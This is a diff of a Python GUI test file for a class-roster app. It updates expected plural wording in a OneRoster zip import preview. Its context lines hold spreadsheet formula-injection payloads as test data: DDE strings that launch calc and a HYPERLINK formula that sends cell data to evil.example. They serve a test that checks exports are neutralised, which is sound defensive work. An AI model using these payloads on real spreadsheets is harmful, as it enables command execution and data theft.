@@ -161,16 +161,17 @@ def test_exported_lists_never_carry_formulas_from_imported_names(open_window, an
         "'=1+2 +cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Okafor",
         "'@SUM(1+1)*cmd|' /C calc'!A0 Lee"], names
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
-def test_import_class_takes_a_oneroster_zip_with_a_preview(open_window, answers, qtbot, tmp_path):
+def test_import_class_takes_a_oneroster_zip_with_a_preview(open_window, answers, qtbot, tmp_path, language):
     from tests import oneroster_sets as sets
 
+    language("en")  # its plural forms: "3 learners added"
     window = open_window()
     answers.file_answer = str(sets.write_zip(sets.set_11(), tmp_path / "sis.zip"))
     qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
     qtbot.waitUntil(lambda: window.model.rowCount() == 3, timeout=20_000)
     preview = answers.confirms[-1]
     assert "Import sis.zip (OneRoster 1.1)?" in preview
-    for line in ("3 learner(s) added", "2 teacher(s) added", "2 class(es) added", "5 class membership(s) added"):
+    for line in ("3 learners added", "2 teachers added", "2 classes added", "5 class memberships added"):
         assert line in preview
     assert "users.csv, row 2: enabledUser is “TRUE”; read as true." in preview  # as the catalogue words it
     assert sorted(s.given_name for s in window.model.all_learners()) == ["José", "Seán", "Zoë"]
